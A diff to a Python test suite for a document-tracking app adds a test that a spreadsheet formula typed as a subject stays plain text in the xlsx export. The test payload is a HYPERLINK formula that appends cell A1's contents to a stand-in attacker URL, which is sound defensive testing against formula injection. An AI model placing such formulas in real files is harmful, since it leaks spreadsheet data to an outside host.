@@ -118,3 +118,11 @@ def test_on_time_rate_per_unit_over_twelve_months(outgoing, units):
     assert (rows["VP"]["total"], rows["VP"]["on_time"], rows["VP"]["rate"]) == (2, 2, 100)
     university = rows["DHPVD"]
     assert (university["total"], university["on_time"], university["late"], university["rate"]) == (2, 0, 2, 0)
+
+
+def test_a_formula_typed_as_a_subject_stays_text_in_the_xlsx(outgoing):
+    request = outgoing()
+    request.subject = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
+    request.save()
+    cell = load_workbook(io.BytesIO(compilation.xlsx(request))).active["A1"]
+    assert cell.data_type == "s" and cell.value == request.subject
